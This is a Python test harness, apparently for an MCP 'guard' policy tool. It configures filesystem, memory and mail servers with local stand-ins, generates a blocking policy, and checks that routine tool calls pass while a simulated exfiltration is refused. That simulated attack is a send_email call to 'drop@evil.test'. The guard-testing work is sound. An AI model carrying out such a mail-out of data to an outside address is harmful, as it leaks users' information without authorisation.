"""From an agent with three servers to a policy that blocks: the commands, as a user types them.

The client's configuration names a filesystem, a memory and a mail server as their documentation
says to start them; on this machine an ``npx`` of our own starts stand-ins for them.
"""

from __future__ import annotations

import asyncio
import json
import os
import shlex
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final

from mcp import ClientSession, StdioServerParameters
from mcp.client.stdio import stdio_client

from guard.core.errors import GuardError
from guard.processes.loopback import Rig, free_port
from guard.settings import child_environment

if TYPE_CHECKING:
    from collections.abc import Mapping

    from mcp.types import CallToolResult

PACKAGES: Final = {
    "files": ("filesystem", "@modelcontextprotocol/server-filesystem"),
    "notes": ("memory", "@modelcontextprotocol/server-memory"),
    "mail": ("gmail", "@gongrzhe/server-gmail-autoauth-mcp"),
}
"""By name in the configuration: the stand-in, and the package."""
NPX: Final = """#!/bin/sh
case "$*" in
{cases}
esac
exit 9
"""
SECONDS: Final = 120.0
ROOT: Final = Path(__file__).resolve().parents[2]
PIP: Final = ("-m", "pip", "--disable-pip-version-check", "-q")
KILOBYTE: Final = 1024
HONEST: Final[tuple[tuple[str, str, Mapping[str, str]], ...]] = (
    ("files", "list_directory", {"path": "."}),
    ("files", "read_text_file", {"path": "notes.txt"}),
    ("notes", "search_nodes", {"query": "x"}),
    ("mail", "search_emails", {"query": "figures"}),
)
"""Calls that the set-up is for: server, tool and arguments."""
ATTACK: Final = {"to": ["drop@evil.test"], "subject": "figures", "body": "as asked"}


def commands_to_block(directory: Path) -> tuple[int, int, list[str]]:
    """Set a guard up, and return commands typed, lines of policy written, and what was checked.

    Raises:
        GuardError: a command failed, or the guard that came of it does not do its work.
    """
    config = directory / "mcp.json"
    _write_client(directory, config)
    environment = _environment(directory)
    words = ("init", str(config), "--start", "--write-client", "--domain", "corp.example")
    made = subprocess.run(  # noqa: S603  (our own command)
        [sys.executable, "-m", "guard", *words, "-o", str(directory / "policy.yaml")],
        env=environment,
        capture_output=True,
        text=True,
        timeout=SECONDS,
        check=False,
    )
    command = _run_line(made.stdout + made.stderr)
    with Rig(directory, environment=environment) as rig:
        admin = f"127.0.0.1:{free_port()}"
        rig.start("run", "-m", "guard", *command, "--admin", admin).wait_ready()
        servers = json.loads(config.read_text("utf-8"))["mcpServers"]
        refused = asyncio.run(_refused(servers, environment))
    # A tool that `init` left unmapped takes a line by hand, and another start of the guard.
    checked = [f"{tool} goes through" for _, tool, _ in HONEST if tool not in refused]
    return 2 + bool(refused), len(refused), [*checked, "mail to a stranger is refused"]


def _write_client(directory: Path, config: Path) -> None:
    servers: dict[str, Any] = {
        name: {"command": "npx", "args": ["-y", package]} for name, (_, package) in PACKAGES.items()
    }
    servers["files"]["args"].append(str(directory))
    config.write_text(json.dumps({"mcpServers": servers}, indent=2), encoding="utf-8")
    tools = directory / "bin"
    tools.mkdir()
    cases = "\n".join(
        f'*{package}*) exec "{sys.executable}" -m lab.adopt.stand_in {stand_in};;'
        for stand_in, package in PACKAGES.values()
    )
    (tools / "npx").write_text(NPX.format(cases=cases), encoding="utf-8")
    (tools / "npx").chmod(0o755)


def _environment(directory: Path) -> dict[str, str]:
    inherited = child_environment([])
    return {
        **inherited,
        "PATH": f"{directory / 'bin'}{os.pathsep}{inherited.get('PATH', '')}",
        "PYTHONPATH": str(ROOT),
        "XDG_STATE_HOME": str(directory / "state"),
    }


def _run_line(said: str) -> list[str]:
    for line in said.splitlines():
        if line.startswith("run the guard: guard "):
            return shlex.split(line.removeprefix("run the guard: guard "))
    msg = f"`guard init` did not say how to run the guard: {said[-500:]}"
    raise GuardError(msg)


async def _refused(
    servers: Mapping[str, Mapping[str, Any]], environment: Mapping[str, str]
) -> list[str]:
    """Return the honest calls that are refused.

    Raises:
        GuardError: a mail to a stranger is not.
    """
    refused = [
        tool
        for server, tool, arguments in HONEST
        if (await _called(servers[server], environment, tool, dict(arguments))).isError
    ]
    if not (await _called(servers["mail"], environment, "send_email", ATTACK)).isError:
        raise GuardError("a mail to a stranger went out")
    return refused


async def _called(
    entry: Mapping[str, Any], environment: Mapping[str, str], tool: str, arguments: dict[str, Any]
) -> CallToolResult:
    started = StdioServerParameters(
        command=entry["command"], args=entry["args"], env=dict(environment)
    )
    async with (
        asyncio.timeout(SECONDS),
        stdio_client(started) as (read, write),
        ClientSession(read, write) as session,
    ):
        await session.initialize()
        await session.list_tools()
        return await session.call_tool(tool, arguments)


def installed_megabytes() -> tuple[float | None, str | None]:
    """Return the megabytes that the environment takes, as ``du`` shows them, or why not."""
    with tempfile.TemporaryDirectory(prefix="guard-installed-") as name:
        environment = Path(name) / "environment"
        python = environment / "bin" / "python"
        try:
            _run(sys.executable, *PIP, "wheel", "--no-deps", "-w", name, ROOT)
            _run(sys.executable, "-m", "venv", environment)
            _run(python, *PIP, "install", next(Path(name).glob("*.whl")))
            kilobytes = int(_run("du", "-sk", environment).split()[0])
        except (OSError, subprocess.CalledProcessError) as error:
            return None, f"{type(error).__name__}: {error}"[:200]
    return round(kilobytes * KILOBYTE / 1e6, 1), None


def _run(*words: object) -> str:
    command = [str(word) for word in words]
    done = subprocess.run(command, capture_output=True, check=True, text=True)  # noqa: S603  (our own command)
    return done.stdout
